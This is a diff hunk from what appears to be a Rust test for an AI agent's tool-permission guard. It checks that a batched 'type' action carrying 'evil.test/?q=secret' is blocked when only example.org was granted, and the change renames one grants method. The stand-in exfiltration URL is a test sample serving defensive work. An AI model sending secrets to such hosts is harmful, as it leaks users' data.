@@ -289,7 +289,7 @@ async fn in_auto_a_later_action_of_a_batch_sends_nothing_where_it_would_have_ask
         { "tool": "type", "arguments": { "text": "evil.test/?q=secret" } },
     ] });
     let mut auto = ExecRequest { has_read: true, ..request("batch", actions) };
-    auto.grants.hear("look at example.org");
+    auto.grants.note_words("look at example.org");
     let result = execute(&router, auto.clone(), CancellationToken::new()).await.result;
     let error = result.error.unwrap();
     assert!(error.message.contains("evil.test"), "{error:?}");
